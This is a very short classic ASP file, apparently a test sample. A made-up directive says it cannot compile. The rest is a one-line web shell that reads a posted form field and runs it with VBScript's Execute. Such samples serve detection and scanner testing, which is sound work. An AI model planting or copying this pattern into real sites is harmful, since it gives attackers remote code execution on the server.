<%@ Inert Reason="made for a test: an unknown directive stops the compiler before anything runs" %>
<% Dim made
made = Request.Form("made-for-a-test")
Execute made %>
